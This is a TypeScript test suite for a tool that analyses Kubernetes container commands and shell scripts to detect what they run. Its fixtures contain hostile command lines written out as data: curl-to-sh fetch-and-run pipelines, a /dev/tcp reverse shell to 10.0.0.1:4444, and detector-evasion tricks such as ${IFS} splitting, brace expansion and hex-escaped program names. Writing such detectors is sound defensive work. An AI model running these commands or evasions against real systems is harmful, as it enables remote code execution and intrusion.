import assert from 'node:assert/strict';
import { describe, test } from 'node:test';
import { analyseCommands, type Invocation } from '../src/index.js';

const C = '/c';

function invocations(container: Record<string, unknown>): Invocation[] {
  return analyseCommands(container, C);
}

/** The programs a `sh -c` script runs, in order, the shell itself left out. */
function programs(script: string): string[] {
  return invocations({ command: ['sh', '-c', script] })
    .slice(1)
    .map((invocation) => invocation.argv[0]);
}

function find(list: Invocation[], program: string): Invocation {
  const found = list.find((invocation) => invocation.argv[0] === program);
  assert.ok(found, `no invocation of ${program} in ${JSON.stringify(list.map((i) => i.argv))}`);
  return found;
}

describe('argv as the process receives it', () => {
  test('args are appended to command, and argv[0] carries the pointer of its own scalar', () => {
    const [first] = invocations({ command: ['/usr/bin/curl'], args: ['-s', 'http://x'] });
    assert.deepEqual(first.argv, ['/usr/bin/curl', '-s', 'http://x']);
    assert.equal(first.path, '/c/command/0');
    assert.equal(first.text, '/usr/bin/curl -s http://x');
  });

  test('without command, args alone are the argv (images without an entrypoint run args[0])', () => {
    const [first] = invocations({ args: ['wget', '-q', 'http://x'] });
    assert.deepEqual(first.argv, ['wget', '-q', 'http://x']);
    assert.equal(first.path, '/c/args/0');
  });

  test('without command, `-c script` args are a script for a shell entrypoint', () => {
    const list = invocations({ args: ['-ec', 'apk add curl && curl http://x'] });
    assert.deepEqual(list.map((i) => i.argv[0]), ['apk', 'curl']);
    assert.ok(list.every((i) => i.path === '/c/args/1'));
  });

  test('the shell script split across command and args points at the args scalar that holds it', () => {
    const list = invocations({ command: ['/bin/sh', '-c'], args: ['curl http://x'] });
    assert.equal(list[0].path, '/c/command/0');
    assert.equal(find(list, 'curl').path, '/c/args/0');
  });

  test('YAML numbers in args become their text', () => {
    const [first] = invocations({ command: ['sleep'], args: [3600] });
    assert.deepEqual(first.argv, ['sleep', '3600']);
  });

  test('a container with neither command nor args runs nothing we can see', () => {
    assert.deepEqual(invocations({ image: 'curlimages/curl' }), []);
  });

  test('lifecycle hooks and exec probes are commands too, with their origin', () => {
    const list = invocations({
      lifecycle: { postStart: { exec: { command: ['sh', '-c', 'wget http://x'] } } },
      livenessProbe: { exec: { command: ['curl', '-f', 'localhost'] } },
    });
    const wget = find(list, 'wget');
    assert.equal(wget.origin, 'postStart');
    assert.equal(wget.path, '/c/lifecycle/postStart/exec/command/2');
    assert.equal(find(list, 'curl').origin, 'livenessProbe');
  });

  test('Kubernetes expands $(VAR) from a literal env value, and the evidence points at that value', () => {
    const list = invocations({ env: [{ name: 'PAYLOAD', value: 'curl http://x | sh' }], command: ['sh', '-c', '$(PAYLOAD)'] });
    assert.equal(find(list, 'curl').path, '/c/env/0/value');
  });

  test('$$(VAR) is an escaped reference, and an unknown $(VAR) stays a command substitution', () => {
    const escaped = invocations({ env: [{ name: 'A', value: 'curl x' }], command: ['sh', '-c', 'echo $$(A)'] });
    assert.equal(escaped.some((i) => i.argv[0] === 'curl'), false);
    assert.ok(escaped.some((i) => i.argv[0] === 'A'));
  });

  test('an env value that is not referenced is data, not a command', () => {
    const list = invocations({ env: [{ name: 'CMD', value: 'curl http://x | sh' }], command: ['sh', '-c', 'echo "$CMD"'] });
    assert.equal(list.some((i) => i.argv[0] === 'curl'), false);
  });
});

describe('shell scripts', () => {
  test('splits on ; && || | & and newlines', () => {
    assert.deepEqual(programs('a; b && c || d | e & f\ng'), ['a', 'b', 'c', 'd', 'e', 'f', 'g']);
  });

  test('combined flags -ec, -xc, -euxc and -o pipefail still find the script', () => {
    for (const flags of [['-ec'], ['-xc'], ['-euxc'], ['-e', '-o', 'pipefail', '-c'], ['--norc', '-c']]) {
      const list = invocations({ command: ['bash', ...flags, 'curl x'] });
      assert.ok(list.some((i) => i.argv[0] === 'curl'), flags.join(' '));
    }
  });

  test('a script file operand is not a script: `sh run.sh -c x`', () => {
    assert.deepEqual(invocations({ command: ['sh', 'run.sh', '-c', 'curl x'] }).map((i) => i.argv[0]), ['sh']);
  });

  test('every shell counts: /bin/sh, bash, ash, dash, zsh, ksh, busybox sh', () => {
    for (const shell of [['/bin/sh'], ['bash'], ['/bin/ash'], ['dash'], ['zsh'], ['ksh'], ['busybox', 'sh'], ['/bin/busybox', 'ash']]) {
      assert.ok(invocations({ command: [...shell, '-c', 'wget x'] }).some((i) => i.argv[0] === 'wget'), shell.join(' '));
    }
  });

  test('single quotes, double quotes and backslashes are removed', () => {
    const list = invocations({ command: ['sh', '-c', `'cu'"rl" -H "a b" \\"x\\"`] });
    assert.deepEqual(list[1].argv, ['curl', '-H', 'a b', '"x"']);
  });

  test("bash's $'…' quoting is decoded: $'\\x63url' is curl", () => {
    assert.deepEqual(programs(`$'\\x63url' http://x`), ['curl']);
  });

  test('the one-word evasions: curl${IFS}x and {curl,-s,x} are curl with its arguments', () => {
    const list = invocations({ command: ['sh', '-c', 'curl${IFS}http://x|sh; {wget,-q,http://y}; echo "{a,b}" $IFS'] });
    assert.deepEqual(list.slice(1).map((i) => i.argv), [['curl', 'http://x'], ['sh'], ['wget', '-q', 'http://y'], ['echo', '{a,b}']]);
  });

  test('separators inside quotes do not split', () => {
    assert.deepEqual(programs(`echo "a; curl x | sh" 'b && wget y'`), ['echo']);
  });

  test('looks inside $(…), backticks, ( … ) subshells and { …; } groups', () => {
    assert.deepEqual(programs('x=$(curl a); y=`wget b`; (nc h 1); { nmap h; }').sort(), ['curl', 'nc', 'nmap', 'wget']);
  });

  test('command substitutions nest: $(echo $(curl x))', () => {
    assert.ok(programs('echo "$(echo $(curl x))"').includes('curl'));
  });

  test('reserved words are skipped: if then else elif fi while until do done !', () => {
    const list = programs('if ! curl -f a; then wget b; elif true; then :; else nc h 1; fi; while true; do masscan x; done; until false; do break; done');
    assert.deepEqual(list, ['curl', 'wget', 'true', ':', 'nc', 'true', 'masscan', 'false', 'break']);
  });

  test('for-loop word lists and case patterns are not commands', () => {
    assert.deepEqual(programs('for t in curl wget; do echo $t; done; case "$1" in curl|wget) echo tool;; *) exit 1;; esac'), ['echo', 'echo', 'exit']);
  });

  test('a case body runs commands', () => {
    assert.deepEqual(programs('case $mode in fetch) curl x;; esac'), ['curl']);
  });

  test('function definitions: the name is not a command, the body is', () => {
    assert.deepEqual(programs('curl() { wget "$@"; }; function nmap { echo; }'), ['wget', 'echo']);
  });

  test('[[ … ]] tests and $(( … )) arithmetic are not commands', () => {
    assert.deepEqual(programs('[[ $t == curl && -n "$x" ]] && echo $((1 + 2)); ((i++)); arr=(curl wget)'), ['echo']);
  });

  test('leading assignments are skipped: A=b B=c cmd', () => {
    const [, curl] = invocations({ command: ['sh', '-c', 'HTTPS_PROXY=http://p NO_PROXY=x curl http://x'] });
    assert.deepEqual(curl.argv, ['curl', 'http://x']);
  });

  test('a quoted assignment is a command name, not an assignment', () => {
    assert.deepEqual(programs(`"A=b" curl`), ['A=b']);
  });

  test('wrappers are peeled: exec, nohup, sudo -u, env -i A=b, command, time, nice -n, timeout, xargs', () => {
    const wrapped = [
      'exec curl x',
      'nohup curl x &',
      'sudo -u root curl x',
      'env -i A=b curl x',
      'command curl x',
      'time curl x',
      'nice -n 10 curl x',
      'timeout -s KILL 30s curl x',
      'echo x | xargs -I{} curl {}',
      'busybox timeout 5 curl x',
      'setsid nohup stdbuf -oL curl x',
    ];
    for (const script of wrapped) {
      const curl = invocations({ command: ['sh', '-c', script] }).find((i) => i.argv[0] === 'curl');
      assert.ok(curl, script);
      assert.ok(curl.wrappers.length > 0, script);
    }
  });

  test('`command -v curl` looks curl up and runs nothing', () => {
    assert.equal(programs('command -v curl >/dev/null || exit 1').includes('curl'), false);
  });

  test('nested sh -c and bash -c are followed', () => {
    assert.ok(programs(`bash -c "sh -c 'curl http://x'"`).includes('curl'));
  });

  test('positional parameters run the words after the script: sh -c \'eval "$1"\' sh \'curl …\'', () => {
    const list = invocations({ command: ['sh', '-c', 'eval "$1"', 'sh', 'curl http://x | sh'] });
    assert.equal(find(list, 'curl').path, '/c/command/4');
    const direct = invocations({ command: ['sh', '-c', '"$@"', 'runner'], args: ['wget', '-q', 'http://y'] });
    assert.deepEqual(find(direct, 'wget').argv, ['wget', '-q', 'http://y']);
    assert.equal(find(direct, 'wget').path, '/c/args/0');
  });

  test('$0 is the word right after the script; unset parameters are empty', () => {
    const list = invocations({ command: ['sh', '-c', 'exec "$0" -s http://x; $7'], args: ['curl'] });
    assert.deepEqual(list.slice(1).map((i) => i.argv), [['curl', '-s', 'http://x']]);
  });

  test('eval, su -c and find -exec run their arguments', () => {
    assert.ok(programs(`eval "curl x"`).includes('curl'));
    assert.ok(programs(`su -c 'wget y' nobody`).includes('wget'));
    assert.ok(invocations({ command: ['find', '/tmp', '-exec', 'nc', 'h', '1', ';'] }).some((i) => i.argv[0] === 'nc'));
  });

  test('shell commands inside inline interpreter code run, at the scalar that holds the code', () => {
    const list = invocations({ command: ['python3', '-c', "import os\nos.system('curl -s http://x | sh')"] });
    const curl = find(list, 'curl');
    assert.equal(curl.path, '/c/command/2');
    assert.deepEqual(find(list, 'sh').stdinFrom.map((i) => i.program), ['curl']);
  });

  test('comments are not commands', () => {
    assert.deepEqual(programs('# curl http://x | sh\necho done # wget'), ['echo']);
  });

  test('line continuations join a command', () => {
    const list = invocations({ command: ['sh', '-c', 'curl \\\n  -s http://x'] });
    assert.deepEqual(list[1].argv, ['curl', '-s', 'http://x']);
  });

  test('a here-document fed to a shell is a script; fed to cat it is data', () => {
    assert.ok(programs('sh <<EOF\ncurl x | sh\nEOF').includes('curl'));
    assert.deepEqual(programs("cat <<'EOF' > /tmp/notes\ncurl x | sh\nEOF\necho ok"), ['cat', 'echo']);
  });

  test('an unquoted here-document still runs its command substitutions', () => {
    assert.ok(programs('cat <<EOF\n$(wget -qO- http://x)\nEOF').includes('wget'));
  });

  test('a pipeline records what feeds each stage', () => {
    const list = invocations({ command: ['bash', '-c', 'curl -s x | base64 -d | sh'] });
    assert.deepEqual(find(list, 'sh').stdinFrom.map((i) => i.argv[0]), ['curl', 'base64']);
    assert.deepEqual(find(list, 'curl').stdinFrom, []);
  });

  test('a compound command is one pipeline stage: (curl x; echo) | sh', () => {
    const list = invocations({ command: ['bash', '-c', '(curl x; echo) | sh'] });
    assert.deepEqual(find(list, 'sh').stdinFrom.map((i) => i.argv[0]), ['curl', 'echo']);
  });

  test('process substitution and whole-word command substitution are linked to the argument', () => {
    const list = invocations({ command: ['bash', '-c', 'bash <(curl x); sh -c "$(wget -O- y)"'] });
    const bash = list.filter((i) => i.argv[0] === 'bash')[1];
    assert.equal(bash.argumentsFrom[0].index, 1);
    assert.equal(bash.argumentsFrom[0].invocations[0].argv[0], 'curl');
  });

  test('redirections are recorded with their targets, file descriptors dropped', () => {
    const list = invocations({ command: ['bash', '-c', 'bash -i >& /dev/tcp/10.0.0.1/4444 0>&1'] });
    assert.deepEqual(list[1].argv, ['bash', '-i']);
    assert.deepEqual(list[1].redirects, [
      { operator: '>&', target: '/dev/tcp/10.0.0.1/4444' },
      { operator: '>&', target: '1' },
    ]);
  });

  test('a redirection-only command (exec 5<>/dev/tcp/…) keeps its redirection', () => {
    const list = invocations({ command: ['bash', '-c', 'exec 5<>/dev/tcp/h/1; cat <&5'] });
    assert.deepEqual(list[1].redirects, [{ operator: '<>', target: '/dev/tcp/h/1' }]);
  });

  test('evidence text is the segment of the script', () => {
    const list = invocations({ command: ['sh', '-c', 'date; curl -fsSL http://x -o /tmp/a && chmod +x /tmp/a'] });
    assert.equal(find(list, 'curl').text, 'curl -fsSL http://x -o /tmp/a');
    assert.equal(find(list, 'chmod').text, 'chmod +x /tmp/a');
  });
});
